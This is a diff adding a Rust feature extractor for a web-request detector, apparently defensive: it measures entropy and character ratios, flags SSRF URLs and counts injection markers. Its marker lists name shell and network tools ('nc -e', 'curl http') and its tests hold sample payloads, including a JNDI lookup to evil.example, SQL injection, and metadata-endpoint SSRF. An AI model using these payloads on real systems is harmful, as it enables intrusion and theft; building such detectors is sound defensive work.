@@ -1,0 +1,609 @@
+//! Per-request features from the request line, body and user agent: sizes, character
+//! classes, entropy, URLs in parameters (SSRF) and injection markers.
+//!
+//! Cheap first: sizes, classes and entropy are one pass over each string with a table of
+//! `c·log2(c)`; the marker search (percent-decoding, lower-casing, substring search) only
+//! runs on strings that contain a byte an injection needs.
+
+use aho_corasick::{AhoCorasick, MatchKind};
+
+/// Longest string scanned (longer input is cut; the ingest schema bounds strings anyway).
+const MAX_SCAN: usize = 8192;
+
+/// Markers per class; counts are summed over path, query, body and user agent.
+const SQLI: &[&str] = &[
+    "' or ",
+    "' or'",
+    "\" or ",
+    " or 1=1",
+    "'or'1'='1",
+    "or '1'='1",
+    "union select",
+    "union all select",
+    "select ",
+    " from ",
+    "';",
+    "--",
+    "/*",
+    "sleep(",
+    "benchmark(",
+    "waitfor delay",
+    "information_schema",
+    "' and ",
+    "drop table",
+    "xp_cmdshell",
+    "pg_sleep",
+    "1 or ",
+    " or true",
+    "json_extract(",
+    "extractvalue(",
+    "updatexml(",
+    "$ne",
+    "$gt\"",
+    "$where",
+    "$regex",
+];
+const XSS: &[&str] = &[
+    "<script",
+    "javascript:",
+    "onerror=",
+    "onload=",
+    "<svg",
+    "<iframe",
+    "<img",
+    "alert(",
+    "document.cookie",
+];
+const TRAVERSAL: &[&str] = &[
+    "../",
+    "..\\",
+    "/etc/passwd",
+    "c:\\windows",
+    "/proc/self",
+    "win.ini",
+    ".htaccess",
+];
+const CMD: &[&str] = &[
+    "${",
+    "$(",
+    "`",
+    "{{",
+    "; cat ",
+    "|cat ",
+    "| cat ",
+    "&& ",
+    "; ls",
+    "|ls",
+    "/bin/sh",
+    "/bin/bash",
+    "nc -e",
+    "; id",
+    "|id",
+    "| id",
+    "|| ",
+    "whoami",
+    "wget http",
+    "curl http",
+    ";sleep",
+    "; sleep",
+];
+
+/// The lexical features of one request.
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+pub struct Lexical {
+    /// Non-empty path segments.
+    pub path_depth: f32,
+    /// Path bytes.
+    pub path_len: f32,
+    /// Query bytes.
+    pub query_len: f32,
+    /// Query parameters.
+    pub query_params: f32,
+    /// Body bytes.
+    pub body_len: f32,
+    /// Entropies, bits per byte.
+    pub path_entropy: f32,
+    /// Query entropy.
+    pub query_entropy: f32,
+    /// Body entropy.
+    pub body_entropy: f32,
+    /// Class ratios.
+    pub path_digit_ratio: f32,
+    /// Path special-character ratio.
+    pub path_special_ratio: f32,
+    /// Query digit ratio.
+    pub query_digit_ratio: f32,
+    /// Query special-character ratio.
+    pub query_special_ratio: f32,
+    /// Body special-character ratio.
+    pub body_special_ratio: f32,
+    /// Longest query parameter value.
+    pub max_param_len: f32,
+    /// Parameters holding URLs or addresses.
+    pub param_url: f32,
+    /// A URL or address names an internal host.
+    pub param_internal_host: f32,
+    /// Marker counts.
+    pub sqli: f32,
+    /// XSS markers.
+    pub xss: f32,
+    /// Traversal markers.
+    pub traversal: f32,
+    /// Command/template injection markers.
+    pub cmd: f32,
+    /// Null bytes.
+    pub null_bytes: f32,
+    /// Share of path+query bytes inside `%XX` escapes.
+    pub encoded_ratio: f32,
+}
+
+/// Reusable scanner (tables, finders and scratch buffers).
+pub struct Lexer {
+    xlogx: Vec<f32>,
+    counts: Box<[u32; 256]>,
+    scratch: Vec<u8>,
+    scratch2: Vec<u8>,
+    /// Every marker of every class in one automaton; `class[pattern]` says which class.
+    markers: AhoCorasick,
+    class: Vec<u8>,
+}
+
+impl std::fmt::Debug for Lexer {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Lexer").finish_non_exhaustive()
+    }
+}
+
+impl Default for Lexer {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+#[inline]
+fn is_special_path(c: u8) -> bool {
+    !(c.is_ascii_alphanumeric() || matches!(c, b'/' | b'-' | b'_' | b'.' | b'~'))
+}
+#[inline]
+fn is_special_query(c: u8) -> bool {
+    !(c.is_ascii_alphanumeric() || matches!(c, b'&' | b'=' | b'-' | b'_' | b'.' | b'~' | b'+'))
+}
+#[inline]
+fn is_special_body(c: u8) -> bool {
+    !(c.is_ascii_alphanumeric()
+        || c.is_ascii_whitespace()
+        || matches!(
+            c,
+            b'{' | b'}' | b'[' | b']' | b':' | b',' | b'"' | b'.' | b'-' | b'_' | b'@'
+        ))
+}
+/// Bytes without which none of the markers can occur (raw or percent-encoded).
+#[inline]
+fn suspicious(c: u8) -> bool {
+    matches!(
+        c,
+        b'\''
+            | b'"'
+            | b'<'
+            | b'>'
+            | b';'
+            | b'|'
+            | b'$'
+            | b'`'
+            | b'('
+            | b'\\'
+            | b'{'
+            | b'%'
+            | b'+'
+            | b' '
+            | 0
+    )
+}
+
+fn hex(c: u8) -> Option<u8> {
+    match c {
+        b'0'..=b'9' => Some(c - b'0'),
+        b'a'..=b'f' => Some(c - b'a' + 10),
+        b'A'..=b'F' => Some(c - b'A' + 10),
+        _ => None,
+    }
+}
+
+/// Percent-decodes (and `+` → space) into `out`, lower-cased.
+fn decode_lower(s: &[u8], out: &mut Vec<u8>) {
+    out.clear();
+    let mut i = 0;
+    while i < s.len() {
+        let c = s[i];
+        if c == b'%'
+            && i + 2 < s.len()
+            && let (Some(h), Some(l)) = (hex(s[i + 1]), hex(s[i + 2]))
+        {
+            out.push((h * 16 + l).to_ascii_lowercase());
+            i += 3;
+            continue;
+        }
+        out.push(if c == b'+' {
+            b' '
+        } else {
+            c.to_ascii_lowercase()
+        });
+        i += 1;
+    }
+}
+
+fn is_ipv4(s: &[u8]) -> bool {
+    let mut parts = 0;
+    for p in s.split(|&c| c == b'.') {
+        if p.is_empty() || p.len() > 3 || !p.iter().all(u8::is_ascii_digit) {
+            return false;
+        }
+        parts += 1;
+    }
+    parts == 4
+}
+
+/// Host part of a lower-cased URL-ish value: after `scheme://` (or `//`), before `/:?#@`.
+fn host_of(v: &[u8]) -> &[u8] {
+    let start = memchr::memmem::find(v, b"//").map_or(0, |p| p + 2);
+    let rest = &v[start..];
+    // Userinfo: `http://user@host`.
+    let rest = match rest.iter().position(|&c| matches!(c, b'/' | b'?' | b'#')) {
+        Some(end) => &rest[..end],
+        None => rest,
+    };
+    let rest = match rest.iter().rposition(|&c| c == b'@') {
+        Some(at) => &rest[at + 1..],
+        None => rest,
+    };
+    if rest.first() == Some(&b'[') {
+        return rest;
+    }
+    match rest.iter().position(|&c| c == b':') {
+        Some(p) => &rest[..p],
+        None => rest,
+    }
+}
+
+fn internal_host(h: &[u8]) -> bool {
+    if h.is_empty() {
+        return false;
+    }
+    if h == b"localhost"
+        || h.ends_with(b".localhost")
+        || h.ends_with(b".internal")
+        || h.ends_with(b".local")
+        || h.starts_with(b"[::1]")
+        || h.starts_with(b"[fd")
+        || h.starts_with(b"[fe80")
+        || h.starts_with(b"[::ffff:")
+        || h == b"0.0.0.0"
+        || h == b"0"
+    {
+        return true;
+    }
+    // Integer or hex encodings of an address (`2130706433`, `0x7f000001`) only serve to
+    // slip past filters.
+    if h.iter().all(u8::is_ascii_digit) || (h.starts_with(b"0x") && h.len() > 2) {
+        return true;
+    }
+    if is_ipv4(h) {
+        let o: Vec<u16> = h
+            .split(|&c| c == b'.')
+            .map(|p| p.iter().fold(0u16, |a, &d| a * 10 + u16::from(d - b'0')))
+            .collect();
+        return o[0] == 127
+            || o[0] == 10
+            || o[0] == 0
+            || (o[0] == 169 && o[1] == 254)
+            || (o[0] == 192 && o[1] == 168)
+            || (o[0] == 172 && (16..=31).contains(&o[1]))
+            || (o[0] == 100 && (64..=127).contains(&o[1]));
+    }
+    false
+}
+
+impl Lexer {
+    /// A scanner with its tables built.
+    pub fn new() -> Self {
+        let xlogx = (0..=MAX_SCAN)
+            .map(|c| {
+                if c == 0 {
+                    0.0
+                } else {
+                    (c as f64 * (c as f64).log2()) as f32
+                }
+            })
+            .collect();
+        let mut patterns = Vec::new();
+        let mut class = Vec::new();
+        for (c, list) in [SQLI, XSS, TRAVERSAL, CMD].into_iter().enumerate() {
+            patterns.extend_from_slice(list);
+            class.extend(std::iter::repeat_n(c as u8, list.len()));
+        }
+        let markers = AhoCorasick::builder()
+            .match_kind(MatchKind::Standard)
+            .build(&patterns)
+            .expect("the marker patterns are valid");
+        Self {
+            xlogx,
+            counts: Box::new([0; 256]),
+            scratch: Vec::with_capacity(1024),
+            scratch2: Vec::with_capacity(1024),
+            markers,
+            class,
+        }
+    }
+
+    /// Entropy (bits/byte), digit count and special count of `s` under `special`.
+    fn profile(&mut self, s: &[u8], special: fn(u8) -> bool) -> (f32, f32, f32, bool) {
+        let s = &s[..s.len().min(MAX_SCAN)];
+        if s.is_empty() {
+            return (0.0, 0.0, 0.0, false);
+        }
+        let mut digits = 0u32;
+        let mut spec = 0u32;
+        let mut sus = false;
+        let mut prev = 0u8;
+        for &c in s {
+            self.counts[c as usize] += 1;
+            digits += u32::from(c.is_ascii_digit());
+            spec += u32::from(special(c));
+            // `..` and `&&` need a look at the previous byte; a lone `.` or `&` is benign.
+            sus |= suspicious(c) || (c == prev && (c == b'.' || c == b'&'));
+            prev = c;
+        }
+        let mut sum = 0.0f32;
+        for &c in s {
+            let n = self.counts[c as usize];
+            if n != 0 {
+                sum += self.xlogx[n as usize];
+                self.counts[c as usize] = 0;
+            }
+        }
+        let n = s.len() as f32;
+        let entropy = (n.log2() - sum / n).max(0.0);
+        (entropy, digits as f32 / n, spec as f32 / n, sus)
+    }
+
+    /// Counts markers of each class in `s` (already decoded and lower-cased).
+    fn markers(&self, s: &[u8], out: &mut Lexical) {
+        // Overlapping matches, so every marker present counts (as separate searches
+        // would), capped so a hostile body cannot make the count itself expensive.
+        let mut counts = [0u32; 4];
+        for m in self.markers.find_overlapping_iter(s).take(256) {
+            counts[self.class[m.pattern().as_usize()] as usize] += 1;
+        }
+        out.sqli += counts[0] as f32;
+        out.xss += counts[1] as f32;
+        out.traversal += counts[2] as f32;
+        out.cmd += counts[3] as f32;
+        out.null_bytes += memchr::memchr_iter(0, s).take(64).count() as f32;
+    }
+
+    /// Decodes `raw` (twice when it was double-encoded) and counts its markers.
+    fn scan(&mut self, raw: &[u8], out: &mut Lexical) {
+        let raw = &raw[..raw.len().min(MAX_SCAN)];
+        let mut buf = std::mem::take(&mut self.scratch);
+        decode_lower(raw, &mut buf);
+        if memchr::memchr(b'%', &buf).is_some() {
+            let mut buf2 = std::mem::take(&mut self.scratch2);
+            decode_lower(&buf, &mut buf2);
+            self.markers(&buf2, out);
+            self.scratch2 = buf2;
+        } else {
+            self.markers(&buf, out);
+        }
+        self.scratch = buf;
+    }
+
+    fn url_value(&mut self, v: &[u8], out: &mut Lexical) {
+        let mut buf = std::mem::take(&mut self.scratch);
+        decode_lower(v, &mut buf);
+        let has_scheme = memchr::memmem::find(&buf, b"://").is_some()
+            || buf.starts_with(b"//")
+            || buf.starts_with(b"file:")
+            || buf.starts_with(b"gopher:")
+            || buf.starts_with(b"dict:");
+        let host = host_of(&buf);
+        if has_scheme || is_ipv4(host) || host.starts_with(b"[") {
+            out.param_url += 1.0;
+            if buf.starts_with(b"file:") || internal_host(host) {
+                out.param_internal_host = 1.0;
+            }
+        }
+        self.scratch = buf;
+    }
+
+    /// The features of one request.
+    pub fn features(
+        &mut self,
+        path: &str,
+        query: Option<&str>,
+        body: Option<&str>,
+        user_agent: Option<&str>,
+    ) -> Lexical {
+        let mut out = Lexical::default();
+        let p = path.as_bytes();
+        let q = query.unwrap_or("").as_bytes();
+        let b = body.unwrap_or("").as_bytes();
+        out.path_len = p.len() as f32;
+        out.query_len = q.len() as f32;
+        out.body_len = b.len() as f32;
+        out.path_depth = path.split('/').filter(|s| !s.is_empty()).count() as f32;
+        let (e, d, s, sus_p) = self.profile(p, is_special_path);
+        (
+            out.path_entropy,
+            out.path_digit_ratio,
+            out.path_special_ratio,
+        ) = (e, d, s);
+        let (e, d, s, sus_q) = self.profile(q, is_special_query);
+        (
+            out.query_entropy,
+            out.query_digit_ratio,
+            out.query_special_ratio,
+        ) = (e, d, s);
+        let (e, _, s, sus_b) = self.profile(b, is_special_body);
+        (out.body_entropy, out.body_special_ratio) = (e, s);
+        // Percent escapes.
+        let escapes = |s: &[u8]| {
+            s.windows(3)
+                .filter(|w| w[0] == b'%' && hex(w[1]).is_some() && hex(w[2]).is_some())
+                .count()
+        };
+        let pq = p.len() + q.len();
+        if pq > 0 && (memchr::memchr(b'%', p).is_some() || memchr::memchr(b'%', q).is_some()) {
+            out.encoded_ratio = (3 * (escapes(p) + escapes(q))) as f32 / pq as f32;
+        }
+        // Parameters.
+        if !q.is_empty() {
+            for param in q.split(|&c| c == b'&') {
+                if param.is_empty() {
+                    continue;
+                }
+                out.query_params += 1.0;
+                let v = match param.iter().position(|&c| c == b'=') {
+                    Some(i) => &param[i + 1..],
+                    None => &[][..],
+                };
+                out.max_param_len = out.max_param_len.max(v.len() as f32);
+                if v.len() >= 4
+                    && v.iter()
+                        .any(|&c| c == b'/' || c == b'.' || c == b'%' || c == b':')
+                {
+                    self.url_value(v, &mut out);
+                }
+            }
+        }
+        // URLs in body values: every `://` or `"file:` in the excerpt.
+        if !b.is_empty()
+            && (memchr::memmem::find(b, b"://").is_some()
+                || memchr::memmem::find(b, b"file:").is_some())
+        {
+            let mut rest = b;
+            while let Some(i) = memchr::memmem::find(rest, b"\"") {
+                rest = &rest[i + 1..];
+                let end = memchr::memchr(b'"', rest).unwrap_or(rest.len());
+                let v = &rest[..end];
+                if memchr::memmem::find(v, b"://").is_some() || v.starts_with(b"file:") {
+                    self.url_value(v, &mut out);
+                }
+                rest = &rest[(end + 1).min(rest.len())..];
+            }
+        }
+        // Markers.
+        if sus_p {
+            self.scan(p, &mut out);
+        }
+        if sus_q {
+            self.scan(q, &mut out);
+        }
+        if sus_b {
+            self.scan(b, &mut out);
+        }
+        if let Some(ua) = user_agent.map(str::as_bytes)
+            && ua
+                .iter()
+                .any(|&c| matches!(c, b'\'' | b'<' | b'$' | b'`' | b';' | b'|' | b'{'))
+        {
+            self.scan(ua, &mut out);
+        }
+        out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn benign_requests_have_no_markers() {
+        let mut l = Lexer::new();
+        let f = l.features(
+            "/api/v1/products/123",
+            Some("q=red+shoes&page=2&sort=price.asc"),
+            Some(r#"{"name":"Ann Lee","qty":2}"#),
+            Some("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
+        );
+        assert_eq!(f.path_depth, 4.0);
+        assert_eq!(f.query_params, 3.0);
+        assert_eq!(f.max_param_len, 9.0);
+        assert_eq!(
+            f.sqli + f.xss + f.traversal + f.cmd + f.null_bytes,
+            0.0,
+            "{f:?}"
+        );
+        assert_eq!(f.param_url, 0.0);
+        assert!(f.path_entropy > 2.0 && f.path_entropy < 5.0);
+        assert!(f.path_digit_ratio > 0.1);
+    }
+
+    #[test]
+    fn entropy_matches_the_definition() {
+        let mut l = Lexer::new();
+        let f = l.features("aabb", None, None, None);
+        assert!((f.path_entropy - 1.0).abs() < 1e-6);
+        let f = l.features("aaaa", None, None, None);
+        assert_eq!(f.path_entropy, 0.0);
+        // The histogram is cleared between calls.
+        let f = l.features("abcd", None, None, None);
+        assert!((f.path_entropy - 2.0).abs() < 1e-6);
+    }
+
+    #[test]
+    fn attacks_raise_their_markers() {
+        let mut l = Lexer::new();
+        let f = l.features("/api/v1/search", Some("q=1%27%20OR%201%3D1--"), None, None);
+        assert!(f.sqli >= 2.0, "{f:?}");
+        assert!(f.encoded_ratio > 0.3);
+        let f = l.features(
+            "/api/v1/search",
+            Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
+            None,
+            None,
+        );
+        assert!(f.xss >= 2.0, "{f:?}");
+        let f = l.features("/api/v1/static/..%252f..%252fetc/passwd", None, None, None);
+        assert!(f.traversal >= 2.0, "{f:?}");
+        let f = l.features("/", None, None, Some("${jndi:ldap://evil.example/a}"));
+        assert!(f.cmd >= 1.0, "{f:?}");
+        let f = l.features("/file%00.txt", None, None, None);
+        assert_eq!(f.null_bytes, 1.0);
+        let f = l.features(
+            "/",
+            None,
+            Some("{\"name\": \"x'; DROP TABLE users;--\"}"),
+            None,
+        );
+        assert!(f.sqli >= 2.0, "{f:?}");
+    }
+
+    #[test]
+    fn urls_and_internal_hosts_in_parameters() {
+        let mut l = Lexer::new();
+        let f = l.features(
+            "/api/v1/images/proxy",
+            Some("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data"),
+            None,
+            None,
+        );
+        assert_eq!((f.param_url, f.param_internal_host), (1.0, 1.0));
+        let f = l.features("/p", Some("url=https://cdn.example.com/a.png"), None, None);
+        assert_eq!((f.param_url, f.param_internal_host), (1.0, 0.0));
+        let f = l.features("/p", Some("callback=http://2130706433/"), None, None);
+        assert_eq!(f.param_internal_host, 1.0);
+        let f = l.features("/p", Some("host=10.0.0.5"), None, None);
+        assert_eq!((f.param_url, f.param_internal_host), (1.0, 1.0));
+        let f = l.features("/p", Some("f=file:///etc/passwd"), None, None);
+        assert_eq!(f.param_internal_host, 1.0);
+        let f = l.features(
+            "/w",
+            None,
+            Some(r#"{"url":"http://localhost:8080/admin","x":"y"}"#),
+            None,
+        );
+        assert_eq!((f.param_url, f.param_internal_host), (1.0, 1.0));
+        let f = l.features("/p", Some("price=10.5&v=1.2.3"), None, None);
+        assert_eq!(f.param_url, 0.0);
+    }
+}
